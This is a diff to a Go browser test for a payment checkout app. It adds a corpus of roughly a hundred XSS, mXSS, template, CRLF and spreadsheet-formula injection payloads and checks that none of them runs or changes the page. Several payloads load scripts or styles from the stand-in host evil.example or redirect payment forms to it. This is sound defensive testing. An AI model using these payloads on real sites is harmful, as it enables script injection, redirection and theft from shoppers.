@@ -1,10 +1,12 @@
 package app
 
 import (
+	"encoding/json"
 	"fmt"
 	"net/http/httptest"
 	"net/url"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -64,7 +66,101 @@ ${window.got=N}
 =HYPERLINK("https://evil.example/?N")
 0; url=https://evil.example/
 %3Cscript%3Ewindow.got=N%3C/script%3E
+<script src=data:,window.got=N></script>
+<script src="//evil.example/N.js"></script>
+<script type=module>window.got=N</script>
+<script>/*</script><script>*/window.got=N</script>
+<scr<script>ipt>window.got=N</scr</script>ipt>
+<script/x>window.got=N</script>
+<svg><animate onbegin=window.got=N attributeName=x dur=1s>
+<svg><a xlink:href="javascript:window.got=N"><text y=20>x</text></a></svg>
+<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='window.got=N'/>#x"/>
+<svg><foreignObject><img src=x onerror=window.got=N></foreignObject></svg>
+<svg><set attributeName=onmouseover to=window.got=N>
+<svg><style><img src=x onerror=window.got=N></style></svg>
+<math><mtext><table><mglyph><style><img src=x onerror=window.got=N>
+<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.got=N>
+<video><source onerror=window.got=N>
+<audio src=x onerror=window.got=N>
+<picture><source srcset=x><img onerror=window.got=N src=x></picture>
+<marquee onstart=window.got=N>
+<keygen autofocus onfocus=window.got=N>
+<select autofocus onfocus=window.got=N>
+<div contenteditable autofocus onfocus=window.got=N>
+<p style="animation:x 1s" onanimationstart=window.got=N>
+<style>@keyframes x{}</style><p style="animation:x" onanimationend=window.got=N>
+<style>@import "https://evil.example/N.css";</style>
+<p style="background:url(javascript:window.got=N)">
+<p style="width:expression(window.got=N)">
+<button form=pay formaction="https://evil.example/N">Pay
+<input type=image src=x onerror=window.got=N>
+<input type=submit formaction="javascript:window.got=N">
+<isindex action="javascript:window.got=N" type=submit>
+<frameset onload=window.got=N>
+<template><script>window.got=N</script></template>
+<slot name=x onslotchange=window.got=N>
+<dialog open onclose=window.got=N>
+<img src="x" srcset="x" onerror="window.got=N"
+<img """><script>window.got=N</script>">
+<img src=`+"`x`"+` onerror=`+"`window.got=N`"+`>
+<a href="jav&#x09;ascript:window.got=N">x</a>
+<a href="&#106;avascript:window.got=N">x</a>
+<a href=" javascript:window.got=N">x</a>
+<a href="vbscript:got(N)">x</a>
+<a href="//evil.example/N">x</a>
+<a href=x target=_blank onclick=window.got=N>x</a>
+<bdo dir=rtl><script>window.got=N</script></bdo>
+<plaintext>N
+<xmp><script>window.got=N</script></xmp>
+<listing><img src=x onerror=window.got=N></listing>
+<noembed><img src=x onerror=window.got=N></noembed>
+<?xml version="1.0"?><script>window.got=N</script>
+<!DOCTYPE x [<!ENTITY y "N">]>&y;
+<!--#exec cmd="echo N"-->
+<%= window.got=N %>
+<?php echo N ?>
+#{window.got=N}
+[[${window.got=N}]]
+{{"".sub("N")}}
+{% raw %}N{% endraw %}
+[N](javascript:window.got=N)
+![N](x"onerror="window.got=N)
+';window.got=N;//
+";window.got=N;//
+\';window.got=N;//
+`+"`;window.got=N;//"+`
+*/window.got=N/*
+</script/x><script>window.got=N</script>
+"}]};window.got=N;//
++alert(N)
+@SUM(1+N)
+-2+3+cmd|' /C calc'!AN
+%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>window.got=N</script>
+%253Cscript%253Ewindow.got=N%253C/script%253E
+&lt;img src=x onerror=window.got=N&gt;
+&#x3c;script&#x3e;window.got=N&#x3c;/script&#x3e;
+\x3cscript\x3ewindow.got=N\x3c/script\x3e
+‹script›window.got=N‹/script›
 `), "\n")
+
+// Ends of what a text may stand in, and what may follow: each with each.
+var (
+	ends = []string{`" x=">`, `' x='>`, "-->", "</option></select>", "</a></p></div>", "</noscript>", "</template></button>", "</svg>", "\u2028"}
+	acts = []string{`<img src=x onerror=window.got=N>`, `<svg/onload=window.got=N>`, `<script>window.got=N</script>`, `<details open ontoggle=window.got=N>`,
+		`<input autofocus onfocus=window.got=N>`, `<iframe srcdoc="<script>parent.got=N</script>">`, `<form action="https://evil.example/N"><button>Pay`,
+		`<meta http-equiv=refresh content="0; url=https://evil.example/N">`, `<base href="https://evil.example/N/">`}
+)
+
+// corpus is all of them.
+func corpus() []string {
+	all := slices.Clone(nastyTexts)
+	for _, end := range ends {
+		for _, act := range acts {
+			all = append(all, end+act)
+		}
+	}
+	return all
+}
 
 // shape is the page without its texts: elements and the names of attributes.
 const shape = `[...document.querySelectorAll("*")].map((e) => e.tagName + [...e.attributes].map((a) => " " + a.name).join("")).join("\n")`
@@ -73,15 +169,62 @@ const shape = `[...document.querySelectorAll("*")].map((e) => e.tagName + [...e.
 // elements are the same whatever the texts are (reliability, C4).
 func TestStoredTextsStayText(t *testing.T) {
 	h := openHouse(t)
-	plain := h.walk(t, 0, "an ordinary text")
-	for n, text := range nastyTexts {
-		got := h.walk(t, n+1, strings.ReplaceAll(text, "N", fmt.Sprint(n+1)))
-		for page, elements := range got {
-			if elements != plain[page] {
+	texts := corpus()
+	if len(texts) < 200 {
+		t.Errorf("got %d texts, want 200", len(texts))
+	}
+	opened, parsed := h.walk(t, 0, "an ordinary text", h.opened), h.walk(t, 1, "an ordinary text", h.parsed)
+	for n, text := range texts {
+		text = strings.ReplaceAll(text, "N", fmt.Sprint(n+2))
+		plain, look := parsed, h.parsed
+		if n%openedOfTexts == 0 {
+			plain, look = opened, h.opened
+		}
+		for page, elements := range h.walk(t, n+2, text, look) {
+			if elements != plain[page] || elements == "" {
 				t.Errorf("%q changed the elements of %s:\n%s", text, page, difference(plain[page], elements))
 			}
 		}
 	}
+	if h.elements(t, "<p>x</p>") == h.elements(t, "<p>x<img src=x></p>") || h.elements(t, `<p title="a">`) == h.elements(t, `<p title="a" onclick=x>`) {
+		t.Error("this test finds nothing")
+	}
+}
+
+// openedOfTexts: of so many texts one is opened in the browser, which takes
+// seconds; of the others the browser parses the same pages as they are sent.
+const openedOfTexts = 5
+
+// opened is the shape of a page once it is open and its scripts have run.
+func (h *house) opened(t *testing.T, path string) string {
+	t.Helper()
+	h.b.Open(t, path)
+	if got := browsertest.Eval[string](t, h.b, `String(window.got)`); got != "undefined" {
+		t.Errorf("%s: text %s ran", path, got)
+	}
+	if at := browsertest.Eval[string](t, h.b, `location.host`); at != strings.TrimPrefix(h.box.URL, "http://") {
+		t.Errorf("%s led to %s", path, at)
+	}
+	return browsertest.Eval[string](t, h.b, shape)
+}
+
+// parsed is the shape that the browser's own parser makes of a page.
+func (h *house) parsed(t *testing.T, path string) string {
+	t.Helper()
+	w := knock(h.server.Config.Handler, "GET", strings.TrimPrefix(path, h.box.URL), "")
+	if w.Code != 200 {
+		t.Errorf("%s: got %d", path, w.Code)
+	}
+	return h.elements(t, w.Body.String())
+}
+
+func (h *house) elements(t *testing.T, body string) string {
+	t.Helper()
+	quoted, err := json.Marshal(body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return browsertest.Eval[string](t, h.b, `((document) => `+shape+`)(new DOMParser().parseFromString(`+string(quoted)+`, "text/html"))`)
 }
 
 // house is the app behind a real server, with a browser before it.
@@ -124,7 +267,7 @@ func (h *house) entity(t *testing.T, n int, name string, settings merchant.Setti
 
 // walk opens a checkout whose every text is the given one, goes through it,
 // and tells the shape of each page on the way.
-func (h *house) walk(t *testing.T, n int, text string) map[string]string {
+func (h *house) walk(t *testing.T, n int, text string, see func(t *testing.T, path string) string) map[string]string {
 	t.Helper()
 	code := h.entity(t, n, text, merchant.Settings{})
 	form := url.Values{"entityId": {code}, "amount": {"62.00"}, "currency": {"EUR"}, "paymentType": {"DB"}, "shopperResultUrl": {"http://127.0.0.1/done?t=" + url.QueryEscape(text)},
@@ -138,14 +281,7 @@ func (h *house) walk(t *testing.T, n int, text string) map[string]string {
 	page, shapes := found[1], map[string]string{}
 	look := func(name, path string) {
 		t.Helper()
-		h.b.Open(t, path)
-		shapes[name] = browsertest.Eval[string](t, h.b, shape)
-		if got := browsertest.Eval[string](t, h.b, `String(window.got)`); got != "undefined" {
-			t.Errorf("%q ran on %s", text, name)
-		}
-		if at := browsertest.Eval[string](t, h.b, `location.host`); at != strings.TrimPrefix(h.box.URL, "http://") {
-			t.Errorf("%q led from %s to %s", text, name, at)
-		}
+		shapes[name] = see(t, path)
 	}
 	handler := h.server.Config.Handler
 	pay := url.Values{"attempt": {"1"}, "number": {"4200000000000042"}, "expiry": {"08/34"}, "cvv": {"321"}, "holder": {"holder " + text}}
